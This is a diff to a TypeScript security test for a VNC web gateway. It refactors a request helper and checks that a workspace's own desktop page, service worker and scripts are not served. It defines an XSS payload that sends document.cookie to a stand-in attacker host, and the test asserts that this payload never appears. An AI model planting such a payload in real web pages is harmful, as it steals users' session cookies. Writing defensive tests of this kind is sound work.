@@ -4,35 +4,14 @@
  * origin: the gateway serves its own copy of the web client and only relays the RFB stream.
  */
 import assert from 'node:assert/strict';
-import http, { type IncomingHttpHeaders } from 'node:http';
+import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { after, before, describe, it } from 'node:test';
 import { MemoryRuntime } from '../helpers/memory-runtime.js';
+import { rawRequest } from '../helpers/raw-http.js';
 import { DATABASES, startTestGateway, type TestGateway } from '../helpers/test-gateway.js';
 
 const EVIL = '<script>fetch("https://attacker.example/?t="+document.cookie)</script>';
-
-function get(
-  url: string,
-  path: string,
-  token: string,
-): Promise<{ status: number; headers: IncomingHttpHeaders; body: string }> {
-  const { hostname, port } = new URL(url);
-  return new Promise((resolve, reject) => {
-    const request = http.request(
-      { host: hostname, port, path, headers: { authorization: `Bearer ${token}` } },
-      (response) => {
-        let body = '';
-        response.on('data', (chunk) => (body += chunk));
-        response.on('end', () =>
-          resolve({ status: response.statusCode ?? 0, headers: response.headers, body }),
-        );
-      },
-    );
-    request.on('error', reject);
-    request.end();
-  });
-}
 
 describe('attack: the workspace serves its own desktop page', () => {
   let t: TestGateway;
@@ -77,7 +56,7 @@ describe('attack: the workspace serves its own desktop page', () => {
     await t.gateway.tasks.idle();
     const base = `/v1/admin/hosts/${host.body.id}/vnc`;
 
-    const page = await get(t.url, `${base}/vnc.html`, t.adminToken);
+    const page = await rawRequest(t.url, `${base}/vnc.html`, { authorization: `Bearer ${t.adminToken}` });
     assert.equal(page.status, 200);
     assert.ok(!page.body.includes('attacker.example'), 'the workspace page is not served');
     const csp = String(page.headers['content-security-policy']);
@@ -87,7 +66,7 @@ describe('attack: the workspace serves its own desktop page', () => {
     assert.equal(page.headers['service-worker-allowed'], undefined);
 
     for (const path of ['sw.js', 'app/ui.js', 'index.html', 'websockify.html']) {
-      const answer = await get(t.url, `${base}/${path}`, t.adminToken);
+      const answer = await rawRequest(t.url, `${base}/${path}`, { authorization: `Bearer ${t.adminToken}` });
       assert.equal(answer.status, 404, `${path} answered ${answer.status}`);
       assert.ok(!answer.body.includes('addEventListener("fetch"'), `${path} is not the workspace's script`);
     }
